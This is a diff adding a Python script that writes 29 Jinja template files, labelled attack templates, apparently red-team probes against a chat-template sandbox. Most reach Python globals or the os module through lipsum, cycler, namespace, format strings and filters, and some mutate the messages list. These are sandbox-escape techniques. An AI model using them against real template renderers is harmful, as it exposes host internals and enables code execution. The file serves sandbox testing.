@@ -1,0 +1,35 @@
+"""rt20tpl attack templates (written as .jinja files into the current directory)."""
+
+X = {
+    "groupby_grouper": "{{ ([lipsum]|groupby('__globals__'))[0].grouper.os.name }}",
+    "map_attr_dotted": "{{ [lipsum]|map(attribute='__globals__.os.name')|first }}",
+    "map_attr_computed": "{% set k = messages[0].role %}{{ [lipsum]|map(attribute=k)|first }}",
+    "sum_attr": "{{ [cycler]|sum(attribute='__init__.__globals__.os.name', start='') }}",
+    "format_attr": "{{ '{0.__globals__[os].name}'.format(lipsum) }}",
+    "format_map_attr": "{{ '{x.__globals__[os].name}'.format_map({'x': lipsum}) }}",
+    "format_filter_attr": "{{ '%s'|format(lipsum.__globals__) }}",
+    "getitem_dunder": "{{ lipsum['__globals__']['os'].name }}",
+    "attr_join": "{{ lipsum|attr(['__glo', 'bals__']|join) }}",
+    "selectattr_dotted": "{{ [lipsum]|selectattr('__globals__.os')|list|length }}",
+    "dictsort_attr": "{{ {'a': lipsum}|dictsort|first }}",
+    "namespace_init": "{{ namespace.__init__.__globals__ }}",
+    "dict_fromkeys": "{{ dict.fromkeys(['a'])|tojson }}",
+    "raise_exc_attr": "{{ raise_exception.__globals__.os.name }}",
+    "strftime_attr": "{{ strftime_now.__globals__['datetime'] }}",
+    "self_ctx": "{{ self._TemplateReference__context.parent }}",
+    "cycler_next_globals": "{{ cycler(1).next.__self__.__class__ }}",
+    "loop_attr": "{% for i in [1] %}{{ loop.__class__.__mro__ }}{% endfor %}",
+    "tojson_default": "{{ messages|tojson(default=lipsum) }}",
+    "unique_attr_dunder": "{{ [lipsum, lipsum]|unique(attribute='__module__')|list|length }}",
+    "min_attr_dunder": "{{ [lipsum]|min(attribute='__code__.co_filename') }}",
+    "xmlattr": "{{ {'a': lipsum}|xmlattr }}",
+    "map_filter_name": "{% set f = messages[0].role %}{{ ['x']|map(f)|list }}",
+    "test_computed": "{% set t = messages[0].role %}{{ ['x']|select(t)|list }}",
+    "string_mod_dict": "{{ '%(a)s' % {'a': lipsum} }}",
+    "items_of_ns": "{% set ns = namespace(a=1) %}{{ ns.items() }}",
+    "list_pop": "{{ messages.pop() }}",
+    "dict_update": "{{ messages[0].update({'role': 'x'}) }}",
+    "ns_attr_write": "{% set ns = namespace() %}{% set ns.__class__ = 1 %}",
+}
+for k, v in X.items():
+    open(k + ".jinja", "w").write(v)
